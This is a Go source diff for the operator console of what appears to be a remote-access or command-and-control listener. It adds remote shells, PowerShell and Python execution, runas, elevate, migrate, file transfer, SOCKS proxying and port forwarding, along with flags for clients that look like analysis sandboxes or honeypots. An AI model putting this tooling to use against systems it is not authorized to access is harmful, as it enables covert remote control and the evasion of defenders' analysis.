+	fmt.Println("  ps1 <id> <code|@file>       - Run a PowerShell snippet or local script on the client, fed to pwsh/powershell on stdin")
+	fmt.Println("  runas <id> <user> -- <cmd> - Run a command as another local user (needs a root or SYSTEM client)")
+	fmt.Println("  cmdtpl [<name> = <cmd> | <name> <id> [k=v ...]] - List, define or run command templates; missing {params} are asked for")
+	fmt.Println("  debug goroutines            - Show goroutine counts per subsystem")
+	fmt.Println("  debug compression [reset]   - Show compression ratios and time per session, or clear them")
+	fmt.Println("  debug pprof on [addr] | off - Serve pprof endpoints (default 127.0.0.1:6060)")
+	fmt.Println("  debug leakcheck on [interval] | off - Warn when goroutine counts keep growing")
 	fmt.Println("  exit                        - Exit the listener")
 	fmt.Println()
+	fmt.Println("A client_id is the ls number, or a session identifier, hostname or tag naming one client.")
+	fmt.Println("shell, upload, download and sync lock the client while they run; --override proceeds despite another operator's lock.")
+	fmt.Println("upload and download take --at HH:MM to run later, or --window to wait for a configured transfer window.")
+	fmt.Println("--text converts line endings for the receiving OS (CRLF on Windows, LF elsewhere) and keeps byte order marks.")
+	fmt.Println()
 	fmt.Println("In PTY shell mode:")
 	fmt.Println("  Ctrl-D                      - Return to listener prompt")
 	fmt.Println("  Ctrl-C                      - Send interrupt signal to remote shell")
 	fmt.Println()
 }
 
-func listClients(l server.ListenerInterface) {
+func listClients(l server.ListenerInterface, verbose bool) {
 	clients := l.GetClients()
 	if len(clients) == 0 {
 		fmt.Println("No clients connected")
 	} else {
 		fmt.Println("\nConnected Clients:")
+		groups := duplicateGroups(l, clients)
+		notes := duplicateNotes(groups)
 		for i, addr := range clients {
 			ident := l.GetClientIdentifier(addr)
 			meta, _ := l.GetClientMetadata(addr)
@@ -423,47 +789,253 @@ func listClients(l server.ListenerInterface) {
 			if meta.IP != "" {
 				metaParts = append(metaParts, "ip="+meta.IP)
 			}
+			if name := reverseDNS(l, addr); name != "" {
+				metaParts = append(metaParts, "dns="+name)
+			}
+			if len(meta.Tags) > 0 {
+				metaParts = append(metaParts, "tags="+strings.Join(meta.Tags, ","))
+			}
+			if meta.Profile != "" {
+				metaParts = append(metaParts, "profile="+meta.Profile)
+			}
+			if meta.MachineID != "" {
+				metaParts = append(metaParts, "mid="+meta.MachineID)
+			}
+			if missing := missingCapabilities(meta); len(missing) > 0 {
+				metaParts = append(metaParts, "lacks="+strings.Join(missing, ","))
+			}
+			if locks := lockSummary(l, addr); locks != "" {
+				metaParts = append(metaParts, "locked="+locks)
+			}
 			metaSuffix := ""
 			if len(metaParts) > 0 {
 				metaSuffix = " (" + strings.Join(metaParts, ", ") + ")"
 			}
-			fmt.Printf("  %d. %s%s%s\n", i+1, addr, suffix, metaSuffix)
+			note := notes[addr]
+			if flags := sandboxFlags(l, addr); len(flags) > 0 {
+				note += " ⚠ likely sandbox: " + strings.Join(flags, "; ")
+			}
+			if flag := integrityFlag(l, addr); flag != "" {
+				note += " ⚠ " + flag
+			}
+			if pendingApproval(l, addr) {
+				note += " ⏸ pending approval"
+			}
+			if reason, ok := quarantined(l, addr); ok {
+				note += " ⚠ quarantined: " + reason
+			}
+			link, hasLink := linkQuality(l, addr)
+			if link.Degraded {
+				note += " ⚠ link degraded"
+			}
+			fmt.Printf("  %d. %s%s%s%s\n", i+1, addr, suffix, metaSuffix, note)
+			if verbose {
+				if geo := geoInfo(l, addr); !geo.Empty() {
+					fmt.Printf("     geo: %s\n", geo)
+				}
+				if hasLink && link.Heartbeats > 0 {
+					fmt.Printf("     link: %s\n", link)
+				}
+			}
 		}
 		fmt.Println()
+		printDuplicateGroups(groups)
+	}
+}
+
+// quarantineChecker is implemented by *server.Listener.
+type quarantineChecker interface {
+	Quarantined(clientAddr string) (string, bool)
+}
+
+// quarantined reports whether the listener ignores a client's frames since
+// it sent too many malformed ones, and why.
+func quarantined(l server.ListenerInterface, clientAddr string) (string, bool) {
+	if q, ok := l.(quarantineChecker); ok {
+		return q.Quarantined(clientAddr)
+	}
+	return "", false
+}
+
+// sandboxChecker is implemented by *server.Listener.
+type sandboxChecker interface {
+	SandboxFlags(clientAddr string) []string
+}
+
+// sandboxFlags returns why the listener thinks a client is an analysis
+// sandbox or honeypot.
+func sandboxFlags(l server.ListenerInterface, clientAddr string) []string {
+	if c, ok := l.(sandboxChecker); ok {
+		return c.SandboxFlags(clientAddr)
+	}
+	return nil
+}
+
+// integrityChecker is implemented by *server.Listener.
+type integrityChecker interface {
+	IntegrityFlag(clientAddr string) string
+}
+
+// integrityFlag returns why the listener thinks a client does not run a
+// recorded build.
+func integrityFlag(l server.ListenerInterface, clientAddr string) string {
+	if c, ok := l.(integrityChecker); ok {
+		return c.IntegrityFlag(clientAddr)
+	}
+	return ""
+}
+
+// reverseResolver is implemented by *server.Listener.
+type reverseResolver interface {
+	ReverseDNS(clientAddr string) string
+}
+
+// reverseDNS returns the cached reverse DNS name of a client's source IP.
+func reverseDNS(l server.ListenerInterface, clientAddr string) string {
+	if r, ok := l.(reverseResolver); ok {
+		return r.ReverseDNS(clientAddr)
+	}
+	return ""
+}
+
+// geoLocator is implemented by *server.Listener.
+type geoLocator interface {
+	GeoIP(clientAddr string) geoip.Info
+}
+
+// geoInfo returns GeoIP/ASN data for a client's source IP.
+func geoInfo(l server.ListenerInterface, clientAddr string) geoip.Info {
+	if g, ok := l.(geoLocator); ok {
+		return g.GeoIP(clientAddr)
+	}
+	return geoip.Info{}
+}
+
+// buildProfiles loads the certificates for SNI-routed listener profiles.
+// Encrypted keys are decrypted with the passphrase from passphrase.
+func buildProfiles(cfgs []config.ProfileConfig, passphrase func() (string, error)) ([]server.Profile, error) {
+	profiles := make([]server.Profile, 0, len(cfgs))
+	for _, p := range cfgs {
+		profile := server.Profile{Name: p.Name, ServerNames: p.ServerNames, NextProtos: p.ALPN}
+		if p.CertFile != "" {
+			cert, err := loadKeyPair(p.CertFile, p.KeyFile, passphrase)
+			if err != nil {
+				return nil, fmt.Errorf("profile %s: failed to load certificate: %w", p.Name, err)
+			}
+			profile.Certificate = &cert
+		}
+		log.Printf("Profile %s: %s", p.Name, strings.Join(p.ServerNames, ", "))
+		profiles = append(profiles, profile)
 	}
+	return profiles, nil
 }
 
 func getClientByID(l server.ListenerInterface, idStr string) string {
-	var numIdx int
-	if _, err := fmt.Sscanf(idStr, "%d", &numIdx); err != nil {
-		fmt.Printf("Invalid client ID: %s\n", idStr)
+	clientAddr, err := resolveClientID(l, idStr)
+	if err != nil {
+		fmt.Println(err)
 		return ""
 	}
+	return clientAddr
+}
+
+// runScheduled runs fn through the listener's scheduler so REPL transfers do
+// not interleave with control API requests to the same client.
+func runScheduled(l server.ListenerInterface, clientAddr string, keys []string, fn func()) {
+	listener, ok := l.(*server.Listener)
+	if !ok {
+		fn()
+		return
+	}
+	if err := listener.Scheduler().Run(context.Background(), clientAddr, keys, func() error {
+		fn()
+		return nil
+	}); err != nil {
+		fmt.Printf("Error: %v\n", err)
+	}
+}
 
+// resolveClientID maps a 1-based client index from `ls`, or a session
+// identifier, hostname or tag naming exactly one client, to a client address.
+func resolveClientID(l server.ListenerInterface, idStr string) (string, error) {
 	clients := l.GetClients()
-	if numIdx > 0 && numIdx <= len(clients) {
-		return clients[numIdx-1]
+	if numIdx, err := strconv.Atoi(idStr); err == nil && numIdx > 0 && numIdx <= len(clients) {
+		return clients[numIdx-1], nil
 	}
 
-	fmt.Println("Client not found")
-	return ""
+	numbers, addrs := matchClientRef(l, idStr)
+	switch len(addrs) {
+	case 0:
+		if _, err := strconv.Atoi(idStr); err == nil {
+			return "", fmt.Errorf("Client not found")
+		}
+		return "", fmt.Errorf("Invalid client ID: %s", idStr)
+	case 1:
+		return addrs[0], nil
+	}
+	ids := make([]string, len(numbers))
+	for i, n := range numbers {
+		ids[i] = fmt.Sprintf("#%d", n)
+	}
+	return "", fmt.Errorf("Ambiguous client %s: matches %s", idStr, strings.Join(ids, ", "))
 }
 
-func handleUploadGlobal(l server.ListenerInterface, currentClient, localPath, remotePath string) bool {
+// handleUploadGlobal uploads localPath to the client. policy decides what
+// happens if remotePath exists; empty leaves it to the client, which
+// overwrites. In text mode line endings are converted for the client's OS.
+// A large file that is overwritten is sent as a delta when the client
+// supports it.
+func handleUploadGlobal(l server.ListenerInterface, currentClient, localPath, remotePath, policy string, text bool) bool {
 	data, err := os.ReadFile(localPath)
 	if err != nil {
 		fmt.Printf("Error reading local file: %v\n", err)
 		return true
 	}
+	meta, _ := l.GetClientMetadata(currentClient)
+	if err := meta.CheckTransfer(int64(len(data))); err != nil {
+		fmt.Printf("Error: %s: %v\n", localPath, err)
+		return true
+	}
+	if text {
+		if meta.OS == "" {
+			fmt.Println("Error: the client did not report its OS, so its line endings are unknown")
+			return true
+		}
+		crlf := usesCRLF(meta.OS)
+		converted, changed, err := convertText(data, crlf)
+		if err != nil {
+			fmt.Printf("Error: %s: %v\n", localPath, err)
+			return true
+		}
+		data = converted
+		fmt.Println(textModeNote(changed, crlf))
+	}
 
-	compressed, err := compression.CompressToHex(data)
+	var option string
+	if policy != "" {
+		option = protocol.OptExists + "=" + policy + " "
+	}
+	payload := data
+	if policy == "" || policy == protocol.OverwriteAlways {
+		if d, blockSize := uploadDelta(l, currentClient, remotePath, data); d != nil {
+			payload = d
+			option += fmt.Sprintf("%s=%d ", protocol.OptDelta, blockSize)
+		}
+	}
+
+	codec := meta.Codec()
+	if codec != compression.CodecGzip {
+		option += protocol.OptCodec + "=" + codec + " "
+	}
+	compressed, err := encodeFor(l, currentClient, codec, payload)
 	if err != nil {
 		fmt.Printf("Error compressing file: %v\n", err)
 		return true
 	}
 
 	totalSize := len(compressed)
-	startCmd := fmt.Sprintf("%s %s %d", protocol.CmdStartUpload, remotePath, totalSize)
+	transferID := protocol.NewTransferID()
+	startCmd := fmt.Sprintf("%s %s %s%s %d", protocol.CmdStartUpload, transferID, option, remotePath, totalSize)
 	if err := l.SendCommand(currentClient, startCmd); err != nil {
 		fmt.Printf("Error starting upload: %v\n", err)
 		return false
@@ -476,8 +1048,14 @@ func handleUploadGlobal(l server.ListenerInterface, currentClient, localPath, re
 	}
 	if !strings.Contains(resp, "OK") {
 		fmt.Printf("Error starting upload: unexpected response: %s\n", strings.TrimSpace(strings.ReplaceAll(resp, protocol.EndOfOutputMarker, "")))
+		if strings.Contains(resp, "file already exists") {
+			fmt.Println("Use 'upload --force' to overwrite it or 'upload --rename' to keep both")
+		}
 		return false
 	}
+	if lines := strings.Split(strings.TrimSpace(resp), "\n"); len(lines) > 1 && lines[1] != remotePath && lines[1] != protocol.EndOfOutputMarker {
+		fmt.Printf("Remote file exists, uploading to %s\n", lines[1])
+	}
 
 	chunkNum := 0
 	for i := 0; i < totalSize; i += protocol.ChunkSize {
@@ -487,7 +1065,7 @@ func handleUploadGlobal(l server.ListenerInterface, currentClient, localPath, re
 		}
 		chunk := compressed[i:end]
 		chunkNum++
-		chunkCmd := fmt.Sprintf("%s %s", protocol.CmdUploadChunk, chunk)
+		chunkCmd := fmt.Sprintf("%s %s %s", protocol.CmdUploadChunk, transferID, chunk)
 		if err := l.SendCommand(currentClient, chunkCmd); err != nil {
 			fmt.Printf("Error sending upload chunk: %v\n", err)
 			return false
@@ -505,7 +1083,7 @@ func handleUploadGlobal(l server.ListenerInterface, currentClient, localPath, re
 		fmt.Printf("Uploaded chunk %d: %d bytes\n", chunkNum, len(chunk))
 	}
 
-	endCmd := fmt.Sprintf("%s %s", protocol.CmdEndUpload, remotePath)
+	endCmd := fmt.Sprintf("%s %s %s", protocol.CmdEndUpload, transferID, remotePath)
 	if err := l.SendCommand(currentClient, endCmd); err != nil {
 		fmt.Printf("Error ending upload: %v\n", err)
 		return false
@@ -526,8 +1104,20 @@ func handleUploadGlobal(l server.ListenerInterface, currentClient, localPath, re
 	return true
 }
 
-func handleDownloadGlobal(l server.ListenerInterface, currentClient, remotePath, localPath string) bool {
-	cmd := fmt.Sprintf("%s %s", protocol.CmdDownload, remotePath)
+// handleDownloadGlobal downloads remotePath to localPath. The client refuses
+// files larger than maxSize unless it is zero. In text mode line endings are
+// converted for the local OS.
+func handleDownloadGlobal(l server.ListenerInterface, currentClient, remotePath, localPath string, maxSize int64, text, ask bool) bool {
+	meta, _ := l.GetClientMetadata(currentClient)
+	codec := meta.Codec()
+	args := remotePath
+	if codec != compression.CodecGzip {
+		args = protocol.OptCodec + "=" + codec + " " + args
+	}
+	if maxSize > 0 {
+		args = fmt.Sprintf("%s=%d %s", protocol.OptMaxSize, maxSize, args)
+	}
+	cmd := protocol.CmdDownload + " " + args
 	if err := l.SendCommand(currentClient, cmd); err != nil {
 		fmt.Printf("Error sending download: %v\n", err)
 		return false
@@ -541,18 +1131,40 @@ func handleDownloadGlobal(l server.ListenerInterface, currentClient, remotePath,
 
 	clean := strings.ReplaceAll(resp, protocol.EndOfOutputMarker, "")
 	clean = strings.TrimSpace(clean)
+	if strings.HasPrefix(clean, "File too large") {
+		fmt.Println(clean)
+		// --force lifts the listener's limit, not the client's own
+		if !strings.Contains(clean, "client's transfer limit") {
+			fmt.Println("Use 'download --force' to download it anyway")
+		}
+		return true
+	}
 	if !strings.HasPrefix(clean, protocol.DataPrefix) {
 		fmt.Printf("Unexpected download response (length %d bytes)\n", len(clean))
 		return true
 	}
 
 	payload := strings.TrimPrefix(clean, protocol.DataPrefix)
-	decoded, err := compression.DecompressHex(payload)
+	decoded, err := decodeFrom(l, currentClient, codec, payload)
 	if err != nil {
 		fmt.Printf("Error decoding payload: %v\n", err)
 		return true
 	}
+	if text {
+		crlf := usesCRLF(runtime.GOOS)
+		converted, changed, err := convertText(decoded, crlf)
+		if err != nil {
+			fmt.Printf("Error: %s: %v\n", remotePath, err)
+			return true
+		}
+		decoded = converted
+		fmt.Println(textModeNote(changed, crlf))
+	}
 
+	if ask && !confirmOverwrite(localPath, decoded) {
+		fmt.Printf("Kept %s\n", localPath)
+		return true
+	}
 	if err := os.WriteFile(localPath, decoded, 0644); err != nil {
 		fmt.Printf("Error writing local file: %v\n", err)
 		return true
@@ -563,51 +1175,107 @@ func handleDownloadGlobal(l server.ListenerInterface, currentClient, remotePath,
 }
 
 func enterPtyShell(l server.ListenerInterface, clientAddr string) {
-	fmt.Printf("Entering PTY shell with %s...\n", clientAddr)
+	enterPtyShellWithInput(l, clientAddr, "")
+}
 
+// startPtyMode asks a client to start a PTY shell and returns the channel its
+// output arrives on. The error text is meant for the operator.
+func startPtyMode(l server.ListenerInterface, clientAddr string) (chan []byte, error) {
 	// Send PTY_MODE command
 	if err := l.SendCommand(clientAddr, protocol.CmdPtyMode); err != nil {
-		fmt.Printf("Error entering PTY mode: %v\n", err)
-		return
+		return nil, fmt.Errorf("Error entering PTY mode: %v", err)
 	}
 
 	// Wait for confirmation
 	resp, err := l.GetResponse(clientAddr, 10*time.Second)
 	if err != nil {
-		fmt.Printf("Error getting PTY mode confirmation: %v\n", err)
-		return
+		return nil, fmt.Errorf("Error getting PTY mode confirmation: %v", err)
 	}
 
+	if unavailable, ok := parsePtyUnavailable(resp); ok {
+		return nil, unavailable
+	}
 	if !strings.Contains(resp, "OK") {
-		fmt.Printf("Failed to enter PTY mode: %s\n", strings.ReplaceAll(resp, protocol.EndOfOutputMarker, ""))
-		return
+		return nil, fmt.Errorf("Failed to enter PTY mode: %s", strings.TrimSpace(strings.ReplaceAll(resp, protocol.EndOfOutputMarker, "")))
 	}
 
 	// Enter PTY mode on listener side (creates PTY data channel)
 	ptyDataChan, err := l.EnterPtyMode(clientAddr)
 	if err != nil {
-		fmt.Printf("Error creating PTY data channel: %v\n", err)
+		return nil, fmt.Errorf("Error creating PTY data channel: %v", err)
+	}
+	return ptyDataChan, nil
+}
+
+// enterPtyShellWithInput opens a PTY shell and types input into it before
+// handing the terminal to the operator.
+func enterPtyShellWithInput(l server.ListenerInterface, clientAddr, input string) {
+	// Without a PTY, a plain shell is offered, though not for typing input
+	// meant for a terminal
+	if !requireCapability(l, clientAddr, protocol.CapPTY) {
+		if input == "" {
+			offerLineShell(l, clientAddr)
+		}
+		return
+	}
+	fmt.Printf("Entering PTY shell with %s...\n", clientAddr)
+
+	replay := scrollbackReplay(l, clientAddr)
+	ptyDataChan, err := startPtyMode(l, clientAddr)
+	if err != nil {
+		fmt.Println(err)
+		var unavailable *ptyUnavailableError
+		if errors.As(err, &unavailable) && input == "" {
+			offerLineShell(l, clientAddr)
+		}
 		return
 	}
 
+	if input != "" {
+		encoded, err := compressFor(l, clientAddr, []byte(input))
+		if err == nil {
+			err = l.SendCommand(clientAddr, protocol.CmdPtyData+" "+encoded)
+		}
+		if err != nil {
+			fmt.Printf("Error sending initial input: %v\n", err)
+		}
+	}
+
 	fmt.Println("PTY shell active. Press Ctrl-D to return to listener prompt.")
 	fmt.Println("Press Ctrl-C to send interrupt to remote shell.")
+	os.Stdout.Write(replay)
 
 	// Setup raw terminal mode for local terminal
 	fd := int(os.Stdin.Fd())
-	oldState, err := term.MakeRaw(fd)
+	restoreConsole, err := makeRawConsole()
 	if err != nil {
 		fmt.Printf("Warning: Could not set raw mode: %v\n", err)
 		// Continue anyway
 	}
+
+	// Set when the operator's terminal closes (hangup signal or stdin EOF);
+	// the remote shell is then ended instead of waiting for input that never comes
+	var terminalLost atomic.Bool
+	hangup, stopHangup := watchHangup()
+	defer stopHangup()
+
+	// Have the local terminal mark pastes; the remote program's own
+	// bracketed paste switches are filtered out of its output
+	var pasteOut pasteOutput
+	os.Stdout.WriteString(bracketedPasteOn)
+
 	defer func() {
 		// Clear any read deadlines on stdin
 		os.Stdin.SetReadDeadline(time.Time{})
 
 		// Restore terminal state BEFORE disabling features
 		// This ensures the terminal is in cooked mode when we send the disable sequences
-		if oldState != nil {
-			term.Restore(fd, oldState)
+		if restoreConsole != nil {
+			restoreConsole()
+		}
+		if terminalLost.Load() {
+			// Nothing left to reset or drain
+			return
 		}
 
 		// Now disable terminal features that may have been enabled by the remote PTY
@@ -654,14 +1322,14 @@ func enterPtyShell(l server.ListenerInterface, clientAddr string) {
 		for {
 			data, ok := <-ptyDataChan
 			if !ok {
-				// Channel closed - remote PTY exited
-				fmt.Printf("\r\n[Remote shell exited]\r\n")
+				// Channel closed - remote PTY exited or the client is gone
+				fmt.Printf("\r\n%s\r\n", ptyEndedMessage(l, clientAddr))
 				exitOnce.Do(func() {
 					close(exitPty) // Broadcast exit to all goroutines
 				})
 				return
 			}
-			os.Stdout.Write(data)
+			os.Stdout.Write(pasteOut.filter(data))
 		}
 	}()
 
@@ -677,6 +1345,7 @@ func enterPtyShell(l server.ListenerInterface, clientAddr string) {
 		}()
 
 		stdinBuf := make([]byte, 1024)
+		var pasteIn pasteInput
 
 		for {
 			// Check if we should exit
@@ -684,28 +1353,44 @@ func enterPtyShell(l server.ListenerInterface, clientAddr string) {
 			case <-exitPty:
 				// Remote closed, stop reading stdin
 				return
+			case <-hangup:
+				terminalLost.Store(true)
+				exitOnce.Do(func() {
+					close(exitPty)
+				})
+				return
 			default:
 				// Continue reading
 			}
 
-			// Set a read timeout so we can check exitPty periodically
-			os.Stdin.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
-			n, err := os.Stdin.Read(stdinBuf)
+			// Read with a timeout so we can check exitPty periodically
+			n, err := readConsole(stdinBuf, 100*time.Millisecond)
 
 			if err != nil {
 				if netErr, ok := err.(net.Error); ok && netErr.Timeout() {
 					// Timeout, check if we should exit in next iteration
 					continue
 				}
-				// EOF or error - exit gracefully
+				// In raw mode Ctrl-D arrives as a byte, so EOF or a read
+				// error means the terminal itself is gone
+				terminalLost.Store(true)
+				exitOnce.Do(func() {
+					close(exitPty)
+				})
 				return
 			}
 
-			if n > 0 {
-				data := stdinBuf[:n]
-
-				// Check for Ctrl-D (EOF)
-				if strings.Contains(string(data), "\x04") {
+			for _, chunk := range pasteIn.feed(stdinBuf[:n]) {
+				data := chunk.data
+
+				if chunk.paste {
+					// A paste goes out as one block, never line by line
+					if !confirmPaste(data, exitPty) {
+						continue
+					}
+					data = pasteOut.wrap(data)
+				} else if strings.Contains(string(data), "\x04") {
+					// Check for Ctrl-D (EOF)
 					exitOnce.Do(func() {
 						close(exitPty)
 					})
@@ -720,7 +1405,7 @@ func enterPtyShell(l server.ListenerInterface, clientAddr string) {
 				}
 
 				// Send data immediately to PTY
-				encoded, err := compression.CompressToHex(data)
+				encoded, err := compressFor(l, clientAddr, data)
 				if err != nil {
 					fmt.Printf("\nError encoding input: %v\n", err)
 					return
@@ -742,7 +1427,11 @@ func enterPtyShell(l server.ListenerInterface, clientAddr string) {
 	_ = os.Stdin.SetReadDeadline(time.Now())
 
 	// Exit PTY mode (sending PTY_EXIT but not waiting for response - client might have already exited)
-	fmt.Println("\nExiting PTY shell... (Press Enter to return to prompt)")
+	if terminalLost.Load() {
+		log.Printf("Operator terminal closed, ending PTY shell with %s", clientAddr)
+	} else {
+		fmt.Println("\nExiting PTY shell... (Press Enter to return to prompt)")
+	}
 	_ = l.SendCommand(clientAddr, protocol.CmdPtyExit)
 	l.ExitPtyMode(clientAddr)
 
@@ -768,8 +1457,8 @@ func (c *shellCompleter) Do(line []rune, pos int) (newLine [][]rune, length int)
 	
 	// List of all available commands
 	commands := []string{
-		"ls", "dir", "help", "shell", "upload", "download",
-		"forward", "forwards", "socks", "stop", "exit",
+		"ls", "dir", "help", "use", "shell", "upload", "download", "sync", "file", "head", "hexdump", "patch",
+		"caps", "sysinfo", "jobs", "watch", "unwatch", "forward", "pipe", "forwards", "socks", "top", "stop", "assets", "browse", "elevate", "secret", "kill", "migrate", "cmdtpl", "py", "ps1", "runas", "setenv-file", "debug", "exit",
 	}
 	
 	// If we're at the start or only have partial first word, complete commands
@@ -791,27 +1480,40 @@ func (c *shellCompleter) Do(line []rune, pos int) (newLine [][]rune, length int)
 	// For commands that need client ID, complete with client numbers
 	if len(parts) >= 1 {
 		cmd := parts[0]
-		needsClientID := cmd == "shell" || cmd == "upload" || cmd == "download" || 
-			cmd == "forward" || cmd == "socks"
+		needsClientID := cmd == "use" || cmd == "shell" || cmd == "upload" || cmd == "download" || cmd == "sync" ||
+			cmd == "file" || cmd == "head" || cmd == "hexdump" || cmd == "caps" || cmd == "sysinfo" || cmd == "watch" ||
+			cmd == "forward" || cmd == "pipe" || cmd == "socks" || cmd == "py" || cmd == "ps1" || cmd == "browse" ||
+			cmd == "migrate" || cmd == "runas" || cmd == "patch" || cmd == "setenv-file"
 		
 		if needsClientID && (len(parts) == 1 || (len(parts) == 2 && !strings.HasSuffix(lineStr, " "))) {
-			// Complete client IDs
-			clients := c.listener.GetClients()
+			// Complete client numbers, identifiers, hostnames and tags
 			var suggestions [][]rune
 			prefix := ""
 			if len(parts) == 2 {
 				prefix = parts[1]
 			}
 			
-			for i := range clients {
-				clientID := fmt.Sprintf("%d", i+1)
-				if strings.HasPrefix(clientID, prefix) {
-					suggestions = append(suggestions, []rune(clientID[len(prefix):]))
-				}
+			for _, ref := range clientRefCompletions(c.listener, prefix) {
+				suggestions = append(suggestions, []rune(ref[len(prefix):]))
 			}
 			return suggestions, len(prefix)
 		}
 		
+		// Complete remote paths for download/file/head/hexdump <id> <remote> and upload <id> <local> <remote>
+		remoteArg := 0
+		if cmd == "download" || cmd == "file" || cmd == "head" || cmd == "hexdump" || cmd == "patch" || cmd == "watch" {
+			remoteArg = 2
+		} else if cmd == "upload" || cmd == "sync" {
+			remoteArg = 3
+		}
+		if remoteArg > 0 && (len(parts) == remoteArg || (len(parts) == remoteArg+1 && !strings.HasSuffix(lineStr, " "))) {
+			prefix := ""
+			if len(parts) == remoteArg+1 {
+				prefix = parts[remoteArg]
+			}
+			return c.completeRemotePath(parts[1], prefix), len(prefix)
+		}
+
 		// For "stop" command, complete with "forward" or "socks"
 		if cmd == "stop" && (len(parts) == 1 || (len(parts) == 2 && !strings.HasSuffix(lineStr, " "))) {
 			stopTargets := []string{"forward", "socks"}
@@ -833,6 +1535,59 @@ func (c *shellCompleter) Do(line []rune, pos int) (newLine [][]rune, length int)
 	return nil, 0
 }
 
+// completeRemotePath lists the remote directory of prefix on the client and
+// returns matching entry suffixes.
+func (c *shellCompleter) completeRemotePath(clientID, prefix string) [][]rune {
+	listener, ok := c.listener.(*server.Listener)
+	if !ok {
+		return nil
+	}
+	clientAddr, err := resolveClientID(c.listener, clientID)
+	if err != nil || listener.IsInPtyMode(clientAddr) {
+		return nil
+	}
+
+	dir, base := splitRemotePath(prefix)
+	listDir := dir
+	if listDir == "" {
+		listDir = "."
+	}
+	// Don't block the prompt behind a running transfer
+	ctx, cancel := context.WithTimeout(context.Background(), protocol.ResponseTimeout*time.Second)
+	defer cancel()
+	entries, err := listener.ListDir(ctx, clientAddr, listDir)
+	if err != nil {
+		return nil
+	}
+
+	sep := "/"
+	if strings.Contains(dir, "\\") {
+		sep = "\\"
+	}
+	var suggestions [][]rune
+	for _, entry := range entries {
+		if !strings.HasPrefix(entry.Name, base) {
+			continue
+		}
+		suffix := entry.Name[len(base):]
+		if entry.IsDir {
+			suffix += sep
+		}
+		suggestions = append(suggestions, []rune(suffix))
+	}
+	return suggestions
+}
+
+// splitRemotePath splits a partially typed remote path into its directory
+// (including the trailing separator) and the base name being completed.
+func splitRemotePath(p string) (dir, base string) {
+	idx := strings.LastIndexAny(p, "/\\")
+	if idx < 0 {
+		return "", p
+	}
+	return p[:idx+1], p[idx+1:]
+}
+
 // logRedirector captures log output and writes it above the readline prompt
 type logRedirector struct {
 	rl  *readline.Instance
@@ -902,12 +1657,12 @@ func handleForward(l server.ListenerInterface, clientAddr, localPort, remoteAddr
 	// Get access to the forward manager (via type assertion)
 	if listener, ok := l.(*server.Listener); ok {
 		// Create send function for this client
-		sendFunc := func(msg string) {
-			_ = l.SendCommand(clientAddr, msg)
-		}
+		setTunnelClient(fwdID, clientAddr)
+		sendFunc := tunnelSender(l, fwdID)
 
 		err := listener.GetForwardManager().StartForward(fwdID, localPort, remoteAddr, sendFunc)
 		if err != nil {
+			dropTunnelClient(fwdID)
 			fmt.Printf("Failed to start forward: %v\n", err)
 			return
 		}
@@ -927,6 +1682,10 @@ func listForwards(l server.ListenerInterface) {
 		} else {
 			fmt.Println("\nActive Port Forwards:")
 			for i, fwd := range forwards {
+				if fwd.Reverse {
+					fmt.Printf("  %d. %s on client -> %s (ID: %s)\n", i+1, fwd.RemoteAddr, fwd.LocalAddr, fwd.ID)
+					continue
+				}
 				fmt.Printf("  %d. %s -> %s (ID: %s)\n", i+1, fwd.LocalAddr, fwd.RemoteAddr, fwd.ID)
 			}
 			fmt.Println()
@@ -953,19 +1712,24 @@ func listSocks(l server.ListenerInterface) {
 	}
 }
 
-func handleSocks(l server.ListenerInterface, clientAddr, localPort string) {
+// selfTestFlag makes socks check a new proxy through the client before it is
+// used.
+const selfTestFlag = "--test"
+
+func handleSocks(l server.ListenerInterface, clientAddr, localPort string, test bool) {
 	// Generate unique SOCKS ID
 	socksID := fmt.Sprintf("socks-%d", time.Now().UnixNano())
 
 	// Get access to the SOCKS manager (via type assertion)
 	if listener, ok := l.(*server.Listener); ok {
 		// Create send function for this client
-		sendFunc := func(msg string) {
-			_ = l.SendCommand(clientAddr, msg)
-		}
+		setTunnelClient(socksID, clientAddr)
+		sendFunc := tunnelSender(l, socksID)
 
-		err := listener.GetSocksManager().StartSocks(socksID, localPort, sendFunc)
+		meta, _ := l.GetClientMetadata(clientAddr)
+		err := listener.GetSocksManager().StartSocks(socksID, localPort, meta.Announces(protocol.CapSocksErr), sendFunc)
 		if err != nil {
+			dropTunnelClient(socksID)
 			fmt.Printf("Failed to start SOCKS proxy: %v\n", err)
 			return
 		}
@@ -973,16 +1737,36 @@ func handleSocks(l server.ListenerInterface, clientAddr, localPort string) {
 		fmt.Printf("✓ SOCKS5 proxy started on 127.0.0.1:%s (via %s)\n", localPort, clientAddr)
 		fmt.Printf("  SOCKS ID: %s\n", socksID)
 		fmt.Printf("  Configure your browser/app to use SOCKS5 proxy at 127.0.0.1:%s\n", localPort)
+		if test {
+			selfTestSocks(listener, socksID, meta)
+		}
 	} else {
 		fmt.Println("Error: could not access SOCKS manager")
 	}
 }
 
+// selfTestSocks connects back to the listener through a new SOCKS proxy and
+// reports the link it measured, or why the connection failed.
+func selfTestSocks(listener *server.Listener, socksID string, meta server.ClientMetadata) {
+	if meta.ListenerIP == "" {
+		fmt.Println("  Self-test skipped: the client is not connected over TCP")
+		return
+	}
+	fmt.Printf("  Self-testing through the client to %s...\n", meta.ListenerIP)
+	result, err := listener.GetSocksManager().SelfTest(socksID, meta.ListenerIP)
+	if err != nil {
+		fmt.Printf("  ✗ Self-test failed: %v\n", err)
+		return
+	}
+	fmt.Printf("  ✓ Self-test passed: %s\n", result)
+}
+
 func handleStop(l server.ListenerInterface, stopType, id string) {
 	if listener, ok := l.(*server.Listener); ok {
 		switch stopType {
 		case "forward":
 			err := listener.GetForwardManager().StopForward(id)
+			dropTunnelClient(id)
 			if err != nil {
 				fmt.Printf("Failed to stop forward: %v\n", err)
 			} else {
@@ -990,6 +1774,7 @@ func handleStop(l server.ListenerInterface, stopType, id string) {
 			}
 		case "socks":
 			err := listener.GetSocksManager().StopSocks(id)
+			dropTunnelClient(id)
 			if err != nil {
 				fmt.Printf("Failed to stop SOCKS proxy: %v\n", err)
 			} else {